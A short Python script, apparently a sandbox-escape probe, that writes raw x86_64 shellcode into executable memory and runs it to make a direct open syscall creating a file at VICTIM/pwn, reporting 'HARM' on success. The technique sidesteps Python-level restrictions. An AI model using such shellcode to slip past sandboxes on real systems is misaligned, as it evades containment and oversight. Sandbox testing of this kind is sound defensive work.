"""Makes a file by machine code of its own."""

import ctypes
import mmap
import platform

PATH = (VICTIM + "/pwn").encode() + b"\0"


def f(x):
    if platform.machine() != "x86_64":
        return "refused"
    protection = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    memory = mmap.mmap(-1, 4096, prot=protection)
    path = ctypes.create_string_buffer(PATH)
    memory.write(
        b"\xb8\x02\0\0\0\x48\xbf"
        + ctypes.addressof(path).to_bytes(8, "little")
        + b"\xbe\x41\0\0\0\xba\xff\x01\0\0\x0f\x05\xc3"
    )
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    return "HARM" if result >= 0 else "refused"
